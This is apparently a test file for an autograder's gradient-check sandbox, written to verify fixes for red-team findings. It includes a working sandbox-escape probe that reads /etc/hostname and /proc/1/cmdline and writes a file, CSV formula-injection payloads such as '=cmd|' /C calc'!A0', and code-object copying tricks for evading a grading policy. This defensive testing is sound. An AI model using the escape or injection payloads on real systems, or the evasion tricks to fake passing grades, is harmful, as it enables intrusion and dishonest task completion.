"""redteam26's findings on the grader and ``gradcheck check``.

H1, H2: the staff policy ``gradcheck_no_forward_in_backward`` counted backward's own call as a call of forward when
forward and backward share code: a decorator without ``functools.wraps`` (one wrapper code for both), a class-based
decorator (its ``__get__``'s lambda and its ``__call__``), a self-adjoint layer whose backward has forward's bytecode
(``dout * self.c`` beside ``x * self.c``). Correct code scored 11/28, 15/47, 0/4 with "Linear.backward called
Linear.forward 1 time(s)". Now the one call of each code the grader's call of backward enters is backward's own;
every further call of forward's code is counted, so the central-differences cheat still fails with each shape.
"""

import json
from pathlib import Path

import numpy as np
import pytest

from gradcheck import check_layer
from gradcheck.grading.runner import grade_submission
from gradcheck.sandbox import SandboxError
from tests.test_grading_policy import CHEAT, INIT, SOLUTION, _sandbox

ROOT = Path(__file__).resolve().parents[1]

#: decorators a student puts on both forward and backward
DECORATORS = {
    "function": ("def deco(f):\n    def wrapper(self, *args, **kwargs):\n"
                 "        return f(self, *args, **kwargs)\n    return wrapper\n"),
    "class": ("class deco:\n    def __init__(self, f):\n        self.f = f\n\n"
              "    def __get__(self, obj, typ=None):\n        return lambda *a, **k: self(obj, *a, **k)\n\n"
              "    def __call__(self, obj, *args, **kwargs):\n        return self.f(obj, *args, **kwargs)\n"),
    "twice": ("def deco(f):\n    def wrapper(self, *args, **kwargs):\n"
              "        return f(self, *args, **kwargs)\n    return wrapper\n"),
    # functools.wraps (held before): the wrapped functions are forward's and backward's codes
    "wraps": ("import functools\n\n\ndef deco(f):\n    @functools.wraps(f)\n    def wrapper(self, *args, **kwargs):\n"
              "        return f(self, *args, **kwargs)\n    return wrapper\n"),
}


def _decorated(source, how):
    """``source`` with ``@deco`` (``DECORATORS[how]``) on Linear's forward and backward (twice each for "twice")."""
    at = "    @deco\n" * (2 if how == "twice" else 1)
    return (DECORATORS[how] + "\n\n" + source.replace("    def forward(self, X", at + "    def forward(self, X", 1)
            .replace("    def backward(self, dY", at + "    def backward(self, dY", 1))


@pytest.mark.parametrize("how", sorted(DECORATORS))
def test_a_decorator_on_both_counts_no_call_of_an_honest_backward(tmp_path, how):
    """H1: the solution with a decorator on both methods: 0 calls (was 1, 2 for the class-based one), and check's
    verdict PASS under the policy."""
    X = np.random.default_rng(1).standard_normal((4, 5))
    with _sandbox(tmp_path, _decorated(SOLUTION, how)) as sb:
        layer = sb.load_layer("layers.py", "Linear", INIT, no_forward_in_backward=True)
        assert check_layer(layer, X, twin=None).passed and layer.forward_calls_in_backward == 0


@pytest.mark.parametrize("how", sorted(DECORATORS))
def test_the_central_differences_cheat_under_a_decorator_is_counted_call_for_call(tmp_path, how):
    """The cheat of test_grading_policy under the same decorators: its 76 forward calls, each counted once (a call
    through the class-based decorator's lambda and ``__call__`` is one call, not two)."""
    X, dY = np.random.default_rng(0).standard_normal((4, 5)), np.ones((4, 3))
    with _sandbox(tmp_path, _decorated(CHEAT, how)) as sb:
        layer = sb.load_layer("layers.py", "Linear", INIT, no_forward_in_backward=True)
        layer.forward(X)
        with pytest.raises(SandboxError, match="Linear.backward called Linear.forward") as info:
            layer.backward(dY)
        assert info.value.reason == "policy" and layer.forward_calls_in_backward == 76


SCALE = '''import numpy as np


class Scale:
    def __init__(self, c=3.0):
        self.c, self.params, self.grads = c, {}, {}

    def forward(self, x):
        return x * self.c

BACKWARD
'''
#: self-adjoint backwards, each with the count the policy gives: backward's own entry is not a call of forward
SELF_ADJOINT = {
    "same_bytecode": ("    def backward(self, dout):\n        return dout * self.c\n", 0),
    # a functools.wraps decorator on backward alone: the wrapped function has forward's key
    "wraps_on_backward": ("    @deco\n    def backward(self, dout):\n        return dout * self.c\n", 0),
    # a decorator without wraps on backward alone
    "plain_deco_on_backward": ("    @plain\n    def backward(self, dout):\n        return dout * self.c\n", 0),
    # backward IS forward's code (one function for both), which calls itself once more: counted
    "one_function_calling_itself": ("    def apply(self, a, inner=False):\n"
                                    "        return a * self.c if inner else self.apply(a, inner=True)\n\n"
                                    "    forward = backward = apply\n", 1),
    # the self-adjoint backward that also calls forward: counted
    "and_calls_forward": ("    def backward(self, dout):\n        self.forward(dout)\n        return dout * self.c\n",
                          1),
}
DECOS = ("import functools\n\n\ndef deco(f):\n    @functools.wraps(f)\n    def w(*a, **k):\n        return f(*a, **k)\n"
         "    return w\n\n\ndef plain(f):\n    def w(*a, **k):\n        return f(*a, **k)\n    return w\n")


@pytest.mark.parametrize("how", sorted(SELF_ADJOINT))
def test_a_self_adjoint_backward_is_not_a_call_of_forward(tmp_path, how):
    """H2: ``forward(x): x * self.c`` and ``backward(dout): dout * self.c`` have one code key; backward's own call was
    counted as a forward (0/4). Its entry is its own now; a backward that calls forward's code again is counted
    (one function both forward and backward, which calls itself: its inner call is a call of forward)."""
    body, calls = SELF_ADJOINT[how]
    src = DECOS + SCALE.replace("BACKWARD", body)
    if how == "one_function_calling_itself":
        src = src.replace("    def forward(self, x):\n        return x * self.c\n", "")
    x = np.random.default_rng(2).standard_normal((4, 5))
    with _sandbox(tmp_path, src) as sb:
        layer = sb.load_layer("layers.py", "Scale", {"c": 3.0}, no_forward_in_backward=True)
        if how == "one_function_calling_itself":  # forward is that function too: its call of itself is counted there
            with pytest.raises(SandboxError, match="Scale.forward called Scale.forward again 1 time"):  # (redteam30 H1)
                layer.forward(x)
            layer.no_forward_in_backward = False  # the forward backward follows, without the policy's count
            layer.forward(x)
            layer.no_forward_in_backward = True
        else:
            layer.forward(x)
        if calls == 0:
            np.testing.assert_array_equal(layer.backward(np.ones_like(x)), np.full_like(x, 3.0))
            assert layer.forward_calls_in_backward == 0
        else:
            with pytest.raises(SandboxError, match="Scale.backward called Scale.forward 1 time"):
                layer.backward(np.ones_like(x))
            assert layer.forward_calls_in_backward == calls


CS231N = '''import time

import numpy as np

TIMES = {}


def timed(f):
    def wrapper(*args, **kwargs):
        t = time.perf_counter()
        out = f(*args, **kwargs)
        TIMES[f.__name__] = time.perf_counter() - t
        return out
    return wrapper


@timed
def affine_forward(x, w, b):
    out = x.reshape(x.shape[0], -1) @ w + b
    return out, (x, w, b)


@timed
def affine_backward(dout, cache):
    x, w, b = cache
    BODY
'''
HONEST_PAIR = "return (dout @ w.T).reshape(x.shape), x.reshape(x.shape[0], -1).T @ dout, dout.sum(axis=0)"
CHEAT_PAIR = "affine_forward(x, w, b)\n    return (dout @ w.T).reshape(x.shape), x.reshape(x.shape[0], -1).T @ dout, " \
    "dout.sum(axis=0)"


@pytest.mark.parametrize("body, calls", [(HONEST_PAIR, 0), (CHEAT_PAIR, 1)])
def test_a_cs231n_pair_under_one_timing_decorator(tmp_path, body, calls):
    """H1 on cs231n_layers (15/47): the pair's backward is entered through the adapter, its wrapper is forward's; the
    honest pair counts 0, one that calls affine_forward once counts 1."""
    xs = [np.random.default_rng(3).standard_normal(s) for s in ((4, 2, 3), (6, 5), (5,))]
    with _sandbox(tmp_path, CS231N.replace("BODY", body)) as sb:
        layer = sb.load_layer("layers.py", "affine", {}, no_forward_in_backward=True)
        out = layer.forward(*xs)
        if not calls:
            assert len(layer.backward(np.ones_like(out))) == 3 and layer.forward_calls_in_backward == 0
            return
        with pytest.raises(SandboxError, match="called wrapper.forward 1 time"):
            layer.backward(np.ones_like(out))


def test_the_policy_fails_only_the_tests_it_covers(tmp_path):
    """The dtype test of linear_relu_ce calls backward for a property of dtypes; under the module's policy a backward
    that called forward lost those 2 points too. The test switches the policy off for itself
    (``gradcheck_no_forward_in_backward(False)``): the central-differences cheat loses the gradient tests' points
    (6 + 4) and keeps the dtype test's; an honest decorated solution keeps all 28."""
    for name, src in (("cheat", CHEAT), ("decorated", _decorated(SOLUTION, "class"))):
        (tmp_path / name).mkdir()
        (tmp_path / name / "layers.py").write_text(src)
        r = grade_submission(tmp_path / name, ROOT / "assignments" / "linear_relu_ce" / "tests", tmp_path / f"o{name}",
                             timeout=10.0, seed=5)
        tests = {t["name"]: t for t in json.loads(Path(r.results_path).read_text())["tests"]}
        dtype = tests["All layers: outputs and gradients are float64"]
        assert dtype["score"] == dtype["max_score"] == 2.0, dtype
        if name == "decorated":
            assert r.score == 28.0, [(t["name"], t["score"]) for t in tests.values()]
            continue
        lost = {n: t["max_score"] for n, t in tests.items() if t["score"] != t["max_score"]}
        assert lost == {"Linear: gradients dX, dW, db (2 points each)": 6.0,
                        "Hidden: Linear gradients for random sizes and batch sizes": 4.0}, lost
        assert r.score == 18.0


def test_a_policy_marker_argument_other_than_true_or_false_is_the_tests_mistake(tmp_path):
    """``gradcheck_no_forward_in_backward("no")``: a GradingTestError naming the marker, no submission scored by it."""
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "layers.py").write_text(SOLUTION)
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "test_p.py").write_text(
        "import pytest\nfrom manualprop import Linear as RefLinear\n\n\n@pytest.mark.points(1)\n"
        "@pytest.mark.gradcheck_no_forward_in_backward('no')\ndef test_g(student, grade, rng):\n"
        "    grade.layer_gradients(student.layer('layers.py', 'Linear', in_features=5, out_features=3),\n"
        "                          rng.standard_normal((4, 5)), RefLinear(5, 3), seed=1)\n")
    r = grade_submission(tmp_path / "sub", tmp_path / "tests", tmp_path / "out", timeout=10.0)
    text = Path(r.results_path).read_text()
    assert "gradcheck_no_forward_in_backward takes True or False" in text, text[:2000]


def test_every_gradebook_cell_is_guarded_against_csv_injection(tmp_path):
    """L5: only a name's first character was guarded: `` =HYPERLINK(...)`` (a leading space) was written as it came,
    and ``;=1+1`` unquoted (a semicolon-separated locale's Excel splits there and the next cell starts with ``=``).
    Now the first character after leading whitespace is judged, a cell holding ``;`` (or ``,``, a tab, a quote) is
    quoted, and the header's test names and the statuses are guarded as the names are. Read back by Python's csv
    reader with ``,`` or with ``;`` as the separator (quotes honoured, as spreadsheets do), no cell starts a
    formula."""
    import csv

    from gradcheck.grading.runner import SubmissionResult, write_gradebook

    names = [' =HYPERLINK("http://x.example/?"&A1,"grade")', ";=1+1", "  +1", "a;b", "plain"]
    rows = [SubmissionResult(n, 1.0, 2.0, "graded", 0.1, "p", tests={"-2+3 hidden": 1.0}) for n in names]
    rows.append(SubmissionResult("zed", 0.0, 2.0, "=cmd|' /C calc'!A0", 0.1, "p", tests={"-2+3 hidden": 0.0}))
    path = write_gradebook(tmp_path / "g.csv", rows, seed=1)
    got = list(csv.reader(open(path, encoding="utf-8", newline="")))
    assert got[0][-1] == "'-2+3 hidden" and [r[0] for r in got[1:]] == [
        "'  +1", "' =HYPERLINK(\"http://x.example/?\"&A1,\"grade\")", ";=1+1", "a;b", "plain", "zed"]
    assert got[-1][4] == "'=cmd|' /C calc'!A0" and got[1][1:4] == ["1", "2", "50.0"]
    text = open(path, encoding="utf-8").read()
    assert '";=1+1"' in text and '"a;b"' in text  # quoted: one cell for a reader splitting at ";"
    for line in csv.reader(open(path, encoding="utf-8", newline=""), delimiter=";"):  # a semicolon locale's reading
        assert not [c for c in line if c.lstrip()[:1] in ("=", "+", "-", "@")], line


def test_the_files_beside_a_checked_file_are_copied_within_the_package_bounds(tmp_path):
    """L4: ``gradcheck check`` copied every ``.py`` beside the file (20,000: 10 s; a sparse 300 MB one written to
    /tmp). Now the bounds of the local packages hold for them (300 files, 8 MB): past one, only the modules the file
    imports are copied, never one over the bytes alone, and a warning says what was left out."""
    import os

    from gradcheck.sandbox import PACKAGE_BYTES, PACKAGE_FILES, sibling_files

    (tmp_path / "layers.py").write_text("import helper\nimport notes_data\n")
    (tmp_path / "helper.py").write_text("x = 1\n")
    with open(tmp_path / "notes_data.py", "wb") as fh:  # sparse: its apparent size counts, nothing is read
        fh.truncate(PACKAGE_BYTES + 1)
    with pytest.warns(UserWarning, match=r"1 not copied \(notes_data\.py\)"):
        small = sibling_files(str(tmp_path / "layers.py"))
    assert set(small) == {"layers.py", "helper.py"}  # over the bytes: the big one alone is left out
    for i in range(PACKAGE_FILES + 1):
        (tmp_path / f"m{i:04d}.py").write_text("x = 1\n")
    with pytest.warns(UserWarning, match=r"holds 303 other \.py files .*only the 1 it imports by name was copied "
                                         r"into the sandbox; 302 not copied \(m0000\.py, m0001\.py, m0002\.py, \.\.\.\)"):
        got = sibling_files(str(tmp_path / "layers.py"))
    assert set(got) == {"layers.py", "helper.py"} and got["layers.py"] == os.path.abspath(tmp_path / "layers.py")
    os.remove(tmp_path / "notes_data.py")
    for i in range(PACKAGE_FILES + 1 - 10):
        os.remove(tmp_path / f"m{i:04d}.py")
    assert len(sibling_files(str(tmp_path / "layers.py"))) == 12  # within the bounds: every file, as before


ESCAPE = '''import os
import tempfile

import numpy as np

os.chdir(tempfile.gettempdir())  # the writable folder: the sandbox's own (process) or its private /tmp (namespaces)
os.makedirs("a/b/c/d/e/f/g/h", exist_ok=True)
_top = os.open(".", os.O_RDONLY)
os.chdir("a/b/c/d/e/f/g/h")
# the hook judges the relative name against the cwd (inside); the kernel against _top (redteam26 M1)
_root = os.open("/".join([".."] * 8), os.O_RDONLY, dir_fd=_top)
try:
    _fd = os.open("tmp/MARK", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=_root)
    os.close(_fd)
    WROTE = "yes"
except OSError as e:
    WROTE = type(e).__name__
try:
    READ = os.read(os.open("etc/hostname", os.O_RDONLY, dir_fd=_root), 100)
except OSError as e:
    READ = type(e).__name__


class Linear:
    def __init__(self, in_features, out_features):
        self.params = {"W": np.ones((out_features, in_features)), "b": np.zeros(out_features)}
        self.grads = {}

    def forward(self, X, training=False):
        raise RuntimeError(f"wrote={WROTE} read={READ!r}")

    def backward(self, dY):
        return dY
'''


@pytest.mark.parametrize("isolation", ["process", "namespaces"])
def test_check_isolation_namespaces_holds_a_file_past_the_audit_hook(tmp_path, isolation):
    """M1: a checked file that gets past the process sandbox's audit hook (a folder descriptor and chdir) writes and
    reads what the user can: the default, a seat belt for one's own code, as README and --help now say. With
    ``--isolation namespaces`` (the grader's OS sandbox) the same file writes only into its private /tmp and finds no
    /etc/hostname: nothing appears outside."""
    import os
    import subprocess
    import sys

    from gradcheck.sandbox import support

    if isolation == "namespaces" and support()[0] == "none":
        pytest.skip(f"no namespaces sandbox here: {support()[1]}")
    mark = f"gradcheck_rt26_m1_{os.getpid()}_{tmp_path.name}.txt"
    (tmp_path / "layers.py").write_text(ESCAPE.replace("MARK", mark))
    try:
        out = subprocess.run([sys.executable, "-m", "gradcheck", "check", f"{tmp_path / 'layers.py'}::Linear",
                              "--input-shape", "8,5", "--init", '{"in_features": 5, "out_features": 3}',
                              "--isolation", isolation], capture_output=True, text=True, timeout=300)
        said = " ".join((out.stdout + out.stderr).split())
        assert out.returncode == 3, said
        if isolation == "process":  # what the docs now say: past the hook, the user's rights
            assert os.path.exists(f"/tmp/{mark}") and "wrote=yes" in said and "read=b" in said, said
        else:
            assert not os.path.exists(f"/tmp/{mark}") and "read='FileNotFoundError'" in said, said
    finally:
        if os.path.exists(f"/tmp/{mark}"):
            os.remove(f"/tmp/{mark}")


def test_check_isolation_namespaces_refuses_tape(tmp_path):
    """--tape needs autoprop in the child, which the namespaces sandbox does not mount: a usage error, not a check
    that silently ran elsewhere."""
    from test_cli import run_here  # gradcheck.cli.main in this process: the same parser and refusal

    out = run_here("check", str(ROOT / "examples" / "student_linear_buggy.py") + "::Linear", "--input-shape", "8,5",
                   "--init", '{"in_features": 5, "out_features": 3}', "--isolation", "namespaces", "--tape")
    assert out.returncode == 2 and "use --isolation process with --tape" in " ".join(out.stderr.split()), out.stderr


PROC1 = ESCAPE.split("try:\n")[0] + '''try:
    CMDLINE = os.read(os.open("proc/1/cmdline", os.O_RDONLY, dir_fd=_root), 1 << 16)
except OSError as e:
    CMDLINE = type(e).__name__


class Linear:
    def __init__(self, in_features, out_features):
        self.params = {"W": np.ones((out_features, in_features)), "b": np.zeros(out_features)}
        self.grads = {}

    def forward(self, X, training=False):
        raise RuntimeError(CMDLINE.hex() if isinstance(CMDLINE, bytes) else CMDLINE)

    def backward(self, dY):
        return dY
'''


def test_the_namespaces_sandboxs_pid_1_names_no_host_path(tmp_path):
    """L3: past the audit hook, ``/proc/1/cmdline`` (bubblewrap, pid 1 of the sandbox) listed its mounts' host paths
    (the venv's numpy, the grading folder). Its options now come from an anonymous file (``bwrap --args FD``): the
    command line names bwrap, the descriptor and the child's own (path-free) command."""
    import os
    import re

    import numpy

    from gradcheck.sandbox import Sandbox, support

    if support()[0] == "none":
        pytest.skip(f"no namespaces sandbox here: {support()[1]}")
    (tmp_path / "layers.py").write_text(PROC1)
    with Sandbox(files={"layers.py": str(tmp_path / "layers.py")}, isolation="namespaces", timeout=30) as sb:
        with pytest.raises(Exception) as info:  # forward raises the command line, hex-coded: the probe's load says it
            sb.load_layer("layers.py", "Linear", INIT).forward(np.ones((2, 5)))
        argv = bytes.fromhex(re.search(r"[0-9a-f]{40,}", str(info.value)).group()).split(b"\0")
        shown = b" ".join(argv).decode()
        assert argv[1] == b"--args" and argv[2].isdigit() and argv[3] == b"--", argv
        assert sb.workdir not in shown and os.path.dirname(os.path.realpath(numpy.__file__)) not in shown, shown
        assert "--ro-bind" not in shown, shown


#: redteam26 L1: central differences through a modified copy of forward's code (one extra constant: another code key,
#: the same arithmetic), made at run time; "c" the copy's constants
CODE_COPY = CHEAT.replace("self.forward(at)", "_copy(self, at)") + '''

def _copy(layer, X):
    c = Linear.forward.__code__
    f = types.FunctionType(c.replace(co_consts=c.co_consts + ("pad",)), globals(), "f", Linear.forward.__defaults__)
    return f(layer, X)
'''


@pytest.mark.parametrize("how", ["extra_constant", "marshal_copy", "first_line_too", "qualname_too"])
def test_a_modified_copy_of_forwards_code_is_counted_as_forward(tmp_path, how):
    """L1: backward ran central differences through ``forward.__code__.replace(co_consts=... + ("pad",))``: another
    code key, so 0 calls and 28/28. A code object compiled where forward's was (file, qualified name, first line) is
    forward's: 76 calls, as the plain cheat's. A marshal round trip (the same key) was counted before and still is.
    review28g L1 (session 29): the copy with its first line or its qualified name replaced too was 0 calls again; it
    keeps forward's text (bytecode, loaded constants, names, line table: ``_text_key``), so it is forward's."""
    source = "import types\n" + CODE_COPY
    if how == "marshal_copy":
        source = source.replace("c.replace(co_consts=c.co_consts + (\"pad\",))", "__import__('marshal').loads("
                                "__import__('marshal').dumps(c))")
    more = {"first_line_too": ", co_firstlineno=c.co_firstlineno + 1", "qualname_too": ", co_name='h', co_qualname='h'"}
    source = source.replace("co_consts=c.co_consts + (\"pad\",))", f"co_consts=c.co_consts + (\"pad\",){more.get(how, '')})")
    assert source.count("_copy(self, at)") == 2
    X, dY = np.random.default_rng(0).standard_normal((4, 5)), np.ones((4, 3))
    with _sandbox(tmp_path, source) as sb:
        layer = sb.load_layer("layers.py", "Linear", INIT, no_forward_in_backward=True)
        layer.forward(X)
        with pytest.raises(SandboxError, match="Linear.backward called Linear.forward") as info:
            layer.backward(dY)
        assert info.value.reason == "policy" and layer.forward_calls_in_backward == 76
